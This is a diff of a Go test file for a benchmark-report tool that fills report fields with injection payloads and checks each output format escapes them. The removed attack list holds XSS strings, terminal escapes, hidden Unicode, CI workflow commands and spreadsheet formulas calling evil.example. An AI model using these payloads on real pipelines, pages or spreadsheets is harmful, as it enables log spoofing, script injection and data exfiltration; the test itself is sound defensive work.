@@ -15,7 +15,6 @@ import (
 	"strings"
 	"testing"
 	"time"
-	"unicode"
 
 	"github.com/google/go-cmp/cmp"
 	"go.yaml.in/yaml/v4"
@@ -24,22 +23,8 @@ import (
 	"tare/internal/metric"
 	"tare/internal/report"
 	"tare/internal/signature"
+	"tare/rigs/injection"
 )
-
-// attacks are texts that want to be more than text. "@" is where the field that holds one names itself.
-var attacks = []string{
-	"\x1b[31m@\x1b]0;@\x07", "\u009b31m@\x7f\x00\b@", "@\rover\vthis\f@", "\x1b]8;;http://evil.example/@\x07@",
-	"\u202e@\u2066@\u200f@", "\u200b@\ufeff@\u2060@\U000e0041@", "@\u2028::error::@\u2029@",
-	"::error title=@::@", "@\n::add-mask::@", "\u00a0\t::stop-commands::@",
-	"@ ::error::@ ::error::@ ::error::@ ::error::@ ::error::@ ::error::@ ::error::@",
-	"##[error]@", "##vso[task.setvariable variable=x]@", "@ ##teamcity[message text='@']",
-	"@\nsection_start:0:@\r\x1b[0K@",
-	"<script>alert('@')</script>", "</style><img src=x onerror=@>", "</script><svg onload=@>", "--><b>@</b>",
-	"]]>@<![CDATA[", "\"'><a href=\"javascript:@\">@</a>", "{{.}}${@}&amp;@;",
-	"[@](javascript:@)", "![@](http://evil.example/@)", "@ | @ | @", "`@` **@** _@_ ~~@~~ <@>", "# hd @", "> qt @", "- li @", "+ pl @", "1. ol @", "```\n@", "\n\n# hd @\n\n| @ | @ |", "[@]: javascript:@",
-	"@\"} 1\nevil_metric 1\n# EOF\n", "\\@\"\\", "@\nBenchmarkEvil 1 1 ns/op", "@: [*a, !!x &a", "? @\n: @",
-	"=HYPERLINK(\"http://evil.example/@\")", "@SUM(@)", "+1+@", "-1-@",
-}
 
 // A filler sets every string, map key and element of a model to a text to inject, including fields that are added
 // later.
@@ -108,9 +93,9 @@ func (f *filler) text(path string, t reflect.Type) string {
 	}
 	attack := f.attack
 	if attack == "" {
-		attack = attacks[f.IntN(len(attacks))]
+		attack = injection.Attacks[f.IntN(len(injection.Attacks))]
 	}
-	s := strings.ReplaceAll(attack, "@", "zq"+name+"qz")
+	s := injection.Text(attack, name)
 	f.names[name] = s
 	return s
 }
@@ -206,21 +191,27 @@ func hostileReports(t *testing.T, each func(name string, r *report.Report)) {
 		each(name, &r)
 	}
 	all := func(string) bool { return true }
-	for i, a := range attacks {
+	every := 1
+	if testing.Short() {
+		every = 4
+	}
+	for i, a := range injection.Attacks {
+		if i%every > 0 {
+			continue
+		}
 		make1(fmt.Sprintf("attack %q", a), uint64(i), filler{attack: a, wants: all, whole: true})
 	}
 	for i, part := range optionalParts() {
+		if i%every > 0 {
+			continue
+		}
 		make1("only "+part, uint64(i), filler{wants: func(p string) bool {
 			return p == part ||
 				p == "Treatments" && i%2 == 0
 		}, whole: true})
 		make1("all but "+part, uint64(i), filler{wants: func(p string) bool { return p != part }})
 	}
-	n := uint64(60)
-	if testing.Short() {
-		n = 20
-	}
-	for seed := range n {
+	for seed := range uint64(60 / every) {
 		coin := rand.New(rand.NewPCG(seed, 8))
 		make1(fmt.Sprint("random ", seed), seed, filler{wants: func(string) bool { return coin.IntN(3) > 0 }})
 	}
@@ -263,9 +254,9 @@ func TestInjectionByReports(t *testing.T) {
 			}
 			written[form]++
 			for _, f := range findInjections(form, b.String(), r) {
-				if what := form + " " + f.what + " " + f.field(); !reported[what] {
+				if what := form + " " + f.What + " " + f.Field(); !reported[what] {
 					reported[what] = true
-					t.Errorf("%s: %s: %s in %s: %q", form, name, f.what, f.field(), f.where)
+					t.Errorf("%s: %s: %s in %s: %q", form, name, f.What, f.Field(), f.Where)
 				}
 			}
 		}
@@ -280,38 +271,21 @@ func TestInjectionByReports(t *testing.T) {
 // ofBlocks are the forms of other tools, which not every report can take.
 var ofBlocks = []string{"benchfmt", "hyperfine", "github-action-benchmark"}
 
-// An injection is a place where an injected text became more than text.
-type injection struct{ what, where string }
-
-var marker = regexp.MustCompile(`zq(\w+?)qz`)
-
-// field returns the field of the report that the text came from.
-func (f injection) field() string {
-	if m := marker.FindStringSubmatch(f.where); m != nil {
-		return m[1]
-	}
-	return "an unknown field"
-}
-
-// around returns the text around a place, wide enough to show the name of the next field.
-func around(s string, from, to int) string { return s[max(0, from-40):min(len(s), to+120)] }
-
 var (
-	commandAnywhere = regexp.MustCompile(`##\w*\[`)
-	ownColor        = regexp.MustCompile("\x1b\\[(0|31|32|33)m")
-	ownAnnotation   = regexp.MustCompile(`^::(error|warning|notice) title=[^:,]+::\S`)
+	ownColor      = regexp.MustCompile("\x1b\\[(0|31|32|33)m")
+	ownAnnotation = regexp.MustCompile(`^::(error|warning|notice) title=[^:,]+::\S`)
 )
 
 // findInjections returns the injections in one form of a report.
-func findInjections(form, out string, r *report.Report) []injection {
+func findInjections(form, out string, r *report.Report) []injection.Found {
 	if form == "text in color" {
 		out = ownColor.ReplaceAllString(out, "")
 	}
-	all := findControlCharacters(out)
+	all := injection.ControlCharacters(out)
 	if form != "annotations" {
-		all = append(all, findCICommands(out)...)
+		all = append(all, injection.CICommands(out)...)
 	}
-	examine, ok := map[string]func(string, *report.Report) []injection{
+	examine, ok := map[string]func(string, *report.Report) []injection.Found{
 		"annotations": findInAnnotations, "markdown": findInMarkdown, "summary": findInMarkdown, "html": findInPage,
 		"junit": findInJUnit, "json": findInJSON, "yaml": findInYAML,
 		"hyperfine": findInAnyJSON, "github-action-benchmark": findInAnyJSON, "sarif": findInAnyJSON,
@@ -324,40 +298,14 @@ func findInjections(form, out string, r *report.Report) []injection {
 	return all
 }
 
-// findControlCharacters finds characters that a terminal obeys or hides.
-func findControlCharacters(out string) []injection {
-	for i, c := range out {
-		bidi := c >= 0x202a && c <= 0x202e || c >= 0x2066 && c <= 0x2069 || c == 0x200e || c == 0x200f || c == 0x61c
-		hidden := c == 0x200b || c == 0xfeff || c == 0x2060 || c == 0x2028 || c == 0x2029 || c >= 0xe0000 && c <= 0xe007f
-		if unicode.IsControl(c) && c != '\n' && c != '\t' || bidi || hidden {
-			return []injection{{fmt.Sprintf("the character %U", c), around(out, i, i)}}
-		}
-	}
-	return nil
-}
-
-// findCICommands finds commands of CI systems.
-func findCICommands(out string) []injection {
-	var all []injection
-	for line := range strings.Lines(out) {
-		if strings.HasPrefix(strings.TrimSpace(line), "::") {
-			all = append(all, injection{"a command of GitHub", around(line, 0, 40)})
-		}
-	}
-	if at := commandAnywhere.FindStringIndex(out); at != nil {
-		all = append(all, injection{"a command in a line", around(out, at[0], at[1])})
-	}
-	return all
-}
-
-func findInAnnotations(out string, _ *report.Report) []injection {
-	var all []injection
+func findInAnnotations(out string, _ *report.Report) []injection.Found {
+	var all []injection.Found
 	if n := strings.Count(out, "\n"); n > report.MaxAnnotations {
-		all = append(all, injection{fmt.Sprint(n, " annotations"), out})
+		all = append(all, injection.Found{What: fmt.Sprint(n, " annotations"), Where: out})
 	}
 	for line := range strings.Lines(out) {
-		if !ownAnnotation.MatchString(line) || commandAnywhere.MatchString(line) {
-			all = append(all, injection{"another command", line})
+		if !ownAnnotation.MatchString(line) || injection.CommandAnywhere.MatchString(line) {
+			all = append(all, injection.Found{What: "another command", Where: line})
 		}
 	}
 	return all
@@ -370,17 +318,17 @@ var (
 
 // findInMarkdown finds markup that the encoder did not write, and rows whose length differs from that of their table's
 // head.
-func findInMarkdown(out string, _ *report.Report) []injection {
-	var all []injection
+func findInMarkdown(out string, _ *report.Report) []injection.Found {
+	var all []injection.Found
 	bare := escapedMark.ReplaceAllString(out, "")
 	if at := liveMark.FindStringIndex(bare); at != nil {
-		all = append(all, injection{"a mark of Markdown", around(bare, at[0], at[1])})
+		all = append(all, injection.Found{What: "a mark of Markdown", Where: injection.Around(bare, at[0], at[1])})
 	}
 	bars := 0
 	for line := range strings.Lines(bare) {
 		n := strings.Count(line, "|")
 		if bars > 0 && n > 0 && n != bars || n > 0 && !strings.HasPrefix(line, "|") {
-			all = append(all, injection{"a cell too many", line})
+			all = append(all, injection.Found{What: "a cell too many", Where: line})
 		}
 		bars = n
 	}
@@ -395,10 +343,10 @@ var (
 )
 
 // findInPage parses an HTML page as strictly as XML: its elements and attributes must be those of tare's pages.
-func findInPage(out string, _ *report.Report) []injection {
+func findInPage(out string, _ *report.Report) []injection.Found {
 	for _, m := range pageScript.FindAllStringSubmatch(out, -1) {
 		if strings.Contains(m[1], "json") && !json.Valid([]byte(m[2])) {
-			return []injection{{"broken data", around(m[2], 0, 200)}}
+			return []injection.Found{{What: "broken data", Where: injection.Around(m[2], 0, 200)}}
 		}
 	}
 	return findInMarkup(pageScript.ReplaceAllString(pageParts.ReplaceAllString(out, ""), "$1</script>"), pageNames,
@@ -406,8 +354,12 @@ func findInPage(out string, _ *report.Report) []injection {
 }
 
 // findInMarkup finds unexpected elements, attributes and addresses. Drawings are recognized by their element.
-func findInMarkup(out string, names, attributes []string) []injection {
+func findInMarkup(out string, names, attributes []string) []injection.Found {
 	d := xml.NewDecoder(strings.NewReader(out))
+	near := func(what string, before int) []injection.Found {
+		at := int(d.InputOffset())
+		return []injection.Found{{What: what, Where: injection.Around(out, at-before, at)}}
+	}
 	drawing := 0
 	for {
 		token, err := d.Token()
@@ -417,41 +369,41 @@ func findInMarkup(out string, names, attributes []string) []injection {
 				drawing++
 			}
 			if !slices.Contains(names, x.Name.Local) {
-				return []injection{{"the element " + x.Name.Local, around(out, int(d.InputOffset()), int(d.InputOffset()))}}
+				return near("the element "+x.Name.Local, 0)
 			}
 			for _, a := range x.Attr {
 				n := strings.ToLower(a.Name.Local)
 				if drawing == 0 && !slices.Contains(attributes, n) || strings.HasPrefix(n, "on") || n == "style" ||
 					n == "href" && !strings.HasPrefix(a.Value, "#") {
-					return []injection{{"the attribute " + n, around(out, int(d.InputOffset())-80, int(d.InputOffset()))}}
+					return near("the attribute "+n, 80)
 				}
 			}
 		case xml.EndElement:
 			drawing = max(0, drawing-1)
 		case xml.Comment, xml.Directive:
-			return []injection{{"a comment or a directive", around(out, int(d.InputOffset())-80, int(d.InputOffset()))}}
+			return near("a comment or a directive", 80)
 		}
 		if errors.Is(err, io.EOF) {
 			return nil
 		}
 		if err != nil {
-			return []injection{{"broken markup: " + err.Error(), around(out, int(d.InputOffset()), int(d.InputOffset()))}}
+			return near("broken markup: "+err.Error(), 0)
 		}
 	}
 }
 
-func findInJUnit(out string, _ *report.Report) []injection {
+func findInJUnit(out string, _ *report.Report) []injection.Found {
 	return findInMarkup(out, strings.Fields(
 		"testsuites testsuite properties property testcase skipped error failure system-out system-err"),
 		strings.Fields("name tests failures errors time skipped timestamp hostname value classname message type"))
 }
 
 // findInJSON finds values that are not the report's.
-func findInJSON(out string, r *report.Report) []injection {
+func findInJSON(out string, r *report.Report) []injection.Found {
 	return findInValues(out, r, json.Unmarshal)
 }
 
-func findInYAML(out string, r *report.Report) []injection {
+func findInYAML(out string, r *report.Report) []injection.Found {
 	return findInValues(out, r, func(b []byte, v any) error {
 		var any2 any
 		if err := yaml.Unmarshal(b, &any2); err != nil {
@@ -465,27 +417,27 @@ func findInYAML(out string, r *report.Report) []injection {
 	})
 }
 
-func findInValues(out string, r *report.Report, decode func([]byte, any) error) []injection {
+func findInValues(out string, r *report.Report, decode func([]byte, any) error) []injection.Found {
 	b, err := json.Marshal(r)
 	if err != nil {
-		return []injection{{err.Error(), ""}}
+		return []injection.Found{{What: err.Error(), Where: ""}}
 	}
 	var want, got any
 	if err := json.Unmarshal(b, &want); err != nil {
-		return []injection{{err.Error(), ""}}
+		return []injection.Found{{What: err.Error(), Where: ""}}
 	}
 	if err := decode([]byte(out), &got); err != nil {
-		return []injection{{"broken syntax: " + err.Error(), around(out, 0, 0)}}
+		return []injection.Found{{What: "broken syntax: " + err.Error(), Where: injection.Around(out, 0, 0)}}
 	}
 	if d := cmp.Diff(want, got); d != "" {
-		return []injection{{"another value", d}}
+		return []injection.Found{{What: "another value", Where: d}}
 	}
 	return nil
 }
 
-func findInAnyJSON(out string, _ *report.Report) []injection {
+func findInAnyJSON(out string, _ *report.Report) []injection.Found {
 	if !json.Valid([]byte(out)) {
-		return []injection{{"broken JSON", out}}
+		return []injection.Found{{What: "broken JSON", Where: out}}
 	}
 	return nil
 }
@@ -495,34 +447,36 @@ var (
 	benchmarkLine = regexp.MustCompile(`^(# .*|Unit \S+ better=\w+|(experiment|area): \S.*|Benchmark\S+ 1( \S+ \S+)+|)\n$`)
 )
 
-func findInOpenMetrics(out string, _ *report.Report) []injection {
+func findInOpenMetrics(out string, _ *report.Report) []injection.Found {
 	all := findInLines(out, metricLine)
 	if strings.Count(out, "# EOF") != 1 && strings.Count(out, "\n# EOF\n") != 1 {
-		all = append(all, injection{"an end before the end", out})
+		all = append(all, injection.Found{What: "an end before the end", Where: out})
 	}
 	return all
 }
 
-func findInBenchfmt(out string, _ *report.Report) []injection { return findInLines(out, benchmarkLine) }
+func findInBenchfmt(out string, _ *report.Report) []injection.Found {
+	return findInLines(out, benchmarkLine)
+}
 
-func findInLines(out string, line *regexp.Regexp) []injection {
+func findInLines(out string, line *regexp.Regexp) []injection.Found {
 	for l := range strings.Lines(out) {
 		if !line.MatchString(l) {
-			return []injection{{"a line of another form", l}}
+			return []injection.Found{{What: "a line of another form", Where: l}}
 		}
 	}
 	return nil
 }
 
 // findFormulas finds cells that a spreadsheet would compute.
-func findFormulas(out string, _ *report.Report) []injection {
+func findFormulas(out string, _ *report.Report) []injection.Found {
 	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
 	if err != nil {
-		return []injection{{err.Error(), out}}
+		return []injection.Found{{What: err.Error(), Where: out}}
 	}
 	for _, cell := range slices.Concat(rows...) {
-		if marker.MatchString(cell) && strings.ContainsAny(cell[:1], "=+-@") {
-			return []injection{{"a formula", cell}}
+		if injection.Marker.MatchString(cell) && strings.ContainsAny(cell[:1], "=+-@") {
+			return []injection.Found{{What: "a formula", Where: cell}}
 		}
 	}
 	return nil
